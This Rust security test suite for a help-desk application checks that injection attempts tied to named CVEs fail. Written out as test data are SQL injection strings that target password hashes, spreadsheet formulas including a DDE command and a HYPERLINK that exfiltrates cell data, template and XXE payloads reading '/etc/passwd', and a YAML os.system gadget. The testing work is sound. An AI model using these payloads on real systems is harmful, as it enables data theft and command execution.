//! Words that become commands elsewhere: in SQL, in a spreadsheet, in a template, in a script's objects.

use crate::support::TestDesk;
use crate::support::cast::answer;
use crate::support::process::{complained, run};
use crate::support::story::{ANA, KIM};
use serde_json::{Value, json};
use transom::domain::agent::Role;
use transom::domain::channel::Kind;
use transom::web::http::{Method, Request};

/// Pieces of SQL as the advisories had them.
const SQL: [&str; 12] = [
    "1 OR 1=1",
    "1') OR ('1'='1",
    "'; DROP TABLE contact; --",
    "name); SELECT password_hash FROM agent; --",
    "id DESC, (SELECT password_hash FROM agent)",
    "AND 1=1 UNION SELECT email FROM agent",
    "\" OR \"\"=\"",
    "x\u{0}' OR 1=1 --",
    "NEAR(a b)",
    "message_words MATCH 'a'",
    "rank; ATTACH DATABASE '/tmp/x' AS x",
    "%' ESCAPE '",
];

/// CVE-2025-21628 (Chatwoot), CVE-2021-45811, CVE-2025-26241, CVE-2017-14396 (osTicket), CVE-2011-1686 (RT),
/// CVE-2024-32493 (Znuny): an order, an operator, a filter or a number of an address was put into a statement.
#[test]
fn cve_2025_21628_no_field_of_a_search_reaches_a_statement() {
    let desk = TestDesk::new();
    let ada = desk.person("Ada", Role::Admin);
    let mail = desk.connects(Kind::Email, "Post");
    desk.says(&mail, KIM, "Good day");
    let program = desk.token_of(ada.id);
    let tables = || desk.count("SELECT count(*) FROM sqlite_schema");
    let (before, people) = (tables(), desk.count("SELECT count(*) FROM contact"));
    let hash: String = {
        desk.set_password("ada@example.org", "a quiet harbour at dawn");
        desk.read(|c| Ok(c.query_row("SELECT password_hash FROM agent", [], |row| row.get(0))?))
    };
    for word in SQL {
        let encoded: String = form_urlencoded::byte_serialize(word.as_bytes()).collect();
        for field in [
            "q", "sort", "status", "view", "channel", "tag", "assignee", "queue", "before", "after", "order",
            "c", "kind",
        ] {
            for path in ["/inbox", "/search", "/contacts", "/settings/audit", "/settings/intake", "/changes"]
            {
                let page = desk.get(&ada, &format!("{path}?{field}={encoded}"));
                assert!(page.status < 500, "{path}?{field}={word}: {}", page.status);
                assert!(!page.body.contains(&hash), "{path}?{field}={word}");
            }
            for path in ["/conversations", "/contacts", "/search", "/events", "/templates"] {
                let told = desk.api_get(&program, &format!("{path}?{field}={encoded}"));
                assert!(told.status < 500, "{path}?{field}={word}: {told:?}");
                assert!(!told.json.to_string().contains(&hash), "{path}?{field}={word}");
            }
        }
        for field in ["join.0", "not.0.0", "test.0.0", "sort", "shared"] {
            let mut fields = vec![
                ("name", "x"),
                ("sort", "oldest"),
                ("join.0", "all"),
                ("not.0.0", "is"),
                ("test.0.0", "unanswered"),
            ];
            fields.retain(|(name, _)| *name != field);
            fields.push((field, word));
            let page = desk.post(&ada, "/views/new", &fields);
            assert!(page.status < 500, "{field}={word}: {}", page.status);
        }
        for path in
            ["/conversations/", "/contacts/", "/attachments/", "/faces/", "/messages/", "/settings/people/"]
        {
            let path = format!("{path}{}", encoded.replace('+', "%20"));
            assert!([303, 400, 404, 405].contains(&desk.get(&ada, &path).status), "{path}");
        }
    }
    let views: Vec<i64> = desk.read(|c| {
        let mut all = c.prepare("SELECT id FROM saved_view")?;
        Ok(all.query_map([], |row| row.get(0))?.collect::<Result<_, _>>()?)
    });
    for view in views {
        assert!(desk.get(&ada, &format!("/inbox?view=saved%3A{view}")).status < 500);
    }
    assert_eq!((tables(), desk.count("SELECT count(*) FROM contact")), (before, people));
}

/// CVE-2019-14749 (osTicket), CVE-2025-61873 (RT): a cell of a table that was taken along ran in
/// the spreadsheet that opened it.
#[test]
fn cve_2019_14749_no_cell_of_a_table_is_a_formula() {
    let cells = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\"=1+1",
        "'=1+1",
        "=HYPERLINK(\"https://e.example/?\"&A1)",
        "＝1+1",
        "x\",=1+1,\"",
    ];
    let folder = tempfile::tempdir().unwrap();
    let db = folder.path().join("transom.db").to_str().unwrap().to_owned();
    let made = run(&["generate", "--conversations", "30", "--messages", "60", "--seed", "7", "--db", &db]);
    assert!(made.status.success(), "{}", complained(&made));
    let c = rusqlite::Connection::open(&db).unwrap();
    for (number, cell) in cells.iter().enumerate() {
        let id = i64::try_from(number).unwrap() + 1;
        c.execute(
            "UPDATE contact SET name = ?1 WHERE id = (SELECT contact_id FROM conversation WHERE id = ?2)",
            (cell, id),
        )
        .unwrap();
        c.execute("UPDATE conversation SET subject = ?1 WHERE id = ?2", (cell, id)).unwrap();
        c.execute("UPDATE channel SET name = ?1 WHERE id = 1", [cell]).unwrap();
    }
    drop(c);
    let sheet = folder.path().join("all.csv");
    let made = run(&["export", sheet.to_str().unwrap(), "--format", "csv", "--db", &db]);
    assert!(made.status.success(), "{}", complained(&made));
    let mut seen = 0;
    for row in rows(&std::fs::read_to_string(&sheet).unwrap()) {
        for cell in row {
            let begins = cell.trim_start_matches([' ', '"', '\u{a0}', '\u{feff}']).chars().next();
            assert!(!begins.is_some_and(|c| "=+-@\t\r＝＋－＠".contains(c)), "{cell:?}");
            seen += usize::from(cell.contains("1+1"));
        }
    }
    assert!(seen > 5, "the cells are in the table: {seen}");
}

/// The cells of a table as RFC 4180 has them.
fn rows(text: &str) -> Vec<Vec<String>> {
    let (mut all, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.push(chars.next().unwrap()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                all.push(std::mem::take(&mut row));
            }
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    all
}

/// CVE-2025-49136 (listmonk), CVE-2025-26845 (Znuny), CVE-2017-5944 (RT), CVE-2025-48390 (FreeScout): a text with gaps was a
/// program.
#[test]
fn cve_2025_49136_a_text_with_gaps_runs_nothing() {
    let desk = TestDesk::new();
    let ada = desk.person("Ada", Role::Admin);
    let chat = desk.channel(Kind::Webchat);
    let id = desk.writes(&chat, "v1", "m1").id;
    let path = std::env::var("PATH").unwrap();
    for text in [
        "{{ env \"PATH\" }}",
        "{{ .Env.PATH }}",
        "{{constructor.constructor('return process')()}}",
        "{{#each contact}}{{this}}{{/each}}",
        "${7*7} #{7*7} <%= 7*7 %> {{7*7}} *{7*7}",
        "{{contact.password_hash}} {{agent.password_hash}} {{settings.media_key}}",
        "{{contact.name}}{{{{contact.name}}}}",
        "{% include '/etc/passwd' %}{{ include \"/etc/passwd\" }}",
        "{{'a' * 1000000000}}",
    ] {
        let saved = [("name", "x"), ("body", text), ("language", "en")];
        assert!(desk.post(&ada, "/settings/templates/new", &saved).status < 500);
        let sent = desk.replies(&desk.rights(&ada), &answer(id, text));
        let Ok(sent) = sent else { continue };
        let body = desk.message(sent).body;
        assert!(!body.contains(&path) && !body.contains("49") && !body.contains("root:"), "{text}: {body}");
        assert!(!body.contains("argon2") && body.len() < 10_000, "{text}: {body}");
    }
    let known = desk.connects(Kind::Whatsapp, "Shop");
    let there =
        desk.says(&known, crate::support::story::Customer { name: "{{agent.name}}${7*7}", ..ANA }, "Hello");
    desk.template(None, "hello", "Hello {{contact.name}}");
    let page = desk.get(&ada, &format!("/conversations/{there}"));
    assert!(
        page.status == 200 && !page.body.contains("Hello Ada"),
        "a value with gaps is not filled once more"
    );
}

/// GHSA-rx6j, GHSA-w5fc (FreeScout), CVE-2020-10101 (Zammad): keys that reach a script's objects, and bodies that are none.
#[test]
fn ghsa_rx6j_odd_keys_and_bodies_are_refused_and_the_desk_goes_on() {
    let desk = TestDesk::new();
    let ada = desk.person("Ada", Role::Admin);
    let program = desk.token_of(ada.id);
    for body in [
        json!({ "__proto__": { "admin": true }, "name": "x" }),
        json!({ "constructor": { "prototype": { "admin": true } }, "name": "x" }),
        json!({ "name": { "$ne": null } }),
        json!({ "name": ["x", "y"] }),
        json!([1, 2]),
        json!("x"),
        Value::Null,
    ] {
        assert_eq!(desk.api_post(&program, "/contacts", body.clone()).status, 400, "{body}");
    }
    for (kind, bytes) in [
        ("application/json", &b"not json"[..]),
        ("application/json", b"\x81\x05hello"),
        ("application/json", b"{\"name\":\"a\",\"name\":\"b\"}"),
        ("application/json", b"\xff\xfe{\x00}\x00"),
        ("application/xml", b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
        ("application/x-yaml", b"!!python/object/apply:os.system ['x']"),
    ] {
        let request = Request::new(Method::Post, "/api/v1/contacts")
            .with_header("authorization", &format!("Bearer {}", program.token))
            .with_header("upgrade", "websocket")
            .with_body(kind, bytes.to_vec());
        let told = desk.told(request);
        assert!((400..500).contains(&told.status), "{kind}: {told:?}");
    }
    for query in [
        "__proto__[admin]=1",
        "constructor[prototype][admin]=1",
        "q[]=1&q[]=2",
        "q=1&q=2&q=3",
        "%5f%5fproto%5f%5f=1",
    ] {
        assert!(desk.get(&ada, &format!("/inbox?{query}")).status < 500, "{query}");
    }
    assert_eq!(desk.get(&ada, "/inbox").status, 200);
}
